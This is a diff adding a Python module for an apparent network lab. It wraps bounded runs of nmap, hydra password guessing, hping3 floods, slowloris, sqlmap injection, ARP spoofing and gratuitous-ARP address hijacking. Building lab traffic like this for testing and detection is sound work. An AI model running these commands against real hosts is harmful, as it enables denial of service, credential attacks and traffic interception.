@@ -1,0 +1,93 @@
+"""Real attack tools, each bounded in count, rate and time, run from an attacker's namespace."""
+
+from __future__ import annotations
+
+from typing import TYPE_CHECKING
+
+from . import sandbox
+from .plan import USER
+
+if TYPE_CHECKING:
+    from .context import Context
+
+MAX_PACKETS = 20_000  # of one flood from one source
+MIN_INTERVAL_US = 100  # between two packets of a flood
+MAX_SECONDS = 240
+
+
+def nmap(ctx: Context, targets: list[str], flags: str, seconds: float = MAX_SECONDS) -> None:
+    """An nmap run with these flags; never asks a name server."""
+    ctx.command(["nmap", "-n", *flags.split(), *targets], min(seconds, MAX_SECONDS))
+
+
+def hydra(
+    ctx: Context,
+    targets: list[str],
+    service: str,
+    tries: int = 100,
+    threads: int = 4,
+    wait: int = 0,
+    form: str = "",
+) -> None:
+    """Guess this many wrong passwords of the lab's user on one target after the other."""
+    words = ctx.work / f"words.{ctx.host.name}"
+    words.write_text("".join(f"{ctx.rng.choice(['summer', 'admin', 'stm', 'pass'])}{n}\n" for n in range(tries)))
+    slow = ["-c", str(wait)] if wait else []
+    module = {"http-get": "/admin/", "http-post-form": form}.get(service, "")
+    for target in targets:
+        args = [
+            "hydra",
+            "-I",
+            "-l",
+            USER,
+            "-P",
+            str(words),
+            "-t",
+            str(threads),
+            *slow,
+            f"{service}://{target}",
+        ]
+        if module:
+            args = [*args[:-1], target, service, module]
+        ctx.command(args, MAX_SECONDS)
+
+
+def hping(
+    ctx: Context, targets: list[str], flags: str, count: int = 5000, interval_us: int = 500, port: int = 0
+) -> None:
+    """A packet flood with hping3, at most MAX_PACKETS and never faster than MIN_INTERVAL_US."""
+    count, interval = min(count, MAX_PACKETS), max(interval_us, MIN_INTERVAL_US)
+    where = ["-p", str(port)] if port else []
+    for target in targets:
+        ctx.command(["hping3", "-q", "-c", str(count), "-i", f"u{interval}", *where, *flags.split(), target], 90)
+
+
+def slowloris(ctx: Context, targets: list[str], connections: int = 300, rate: int = 30, seconds: int = 60) -> None:
+    """slowhttptest: many connections held open with headers that never end."""
+    for target in targets:
+        ctx.command(["slowhttptest", "-H", "-c", str(min(connections, 1000)), "-r", str(rate), "-i", "8", "-l",
+                     str(seconds), "-u", f"http://{target}/app/"], seconds + 20)  # fmt: skip
+
+
+def sqlmap(ctx: Context, targets: list[str], level: int = 1, seconds: float = 90) -> None:
+    """sqlmap against a page with a parameter."""
+    for target in targets:
+        ctx.command(["sqlmap", "-u", f"http://{target}/app/list?id=1", "--batch", "--flush-session", "--level",
+                     str(level), "--output-dir", str(ctx.work / f"sqlmap.{ctx.host.name}")], seconds)  # fmt: skip
+
+
+def arpspoof(ctx: Context, targets: list[str], seconds: int = 60) -> None:
+    """Stand between the first target and the second, relaying."""
+    sandbox.sh(
+        "sysctl -qw net.ipv4.ip_forward=1 net.ipv4.conf.all.send_redirects=0 net.ipv4.conf.eth0.send_redirects=0"
+    )
+    victim, other = targets[:2]
+    ctx.command(["timeout", "-s", "INT", str(seconds), "sh", "-c",
+                 f"ping -c1 -W1 {victim}; ping -c1 -W1 {other}; exec arpspoof -i eth0 -t {victim} -r {other}"],
+                seconds + 15)  # fmt: skip
+
+
+def claim_address(ctx: Context, targets: list[str], count: int = 30) -> None:
+    """Gratuitous ARP: claim each target's address, once a second."""
+    for target in targets:
+        ctx.command(["arping", "-q", "-U", "-c", str(count), "-S", target, "-i", "eth0", target], count + 10)
